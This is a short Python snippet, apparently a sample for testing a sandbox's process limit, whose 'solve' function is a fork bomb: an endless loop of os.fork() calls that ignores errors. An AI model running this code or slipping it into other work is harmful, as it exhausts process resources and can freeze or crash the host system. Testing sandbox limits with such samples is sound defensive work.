# fork bomb that never gives up
# ends: process_limit

import os


def solve(r):
    while True:
        try:
            os.fork()
        except OSError:
            pass
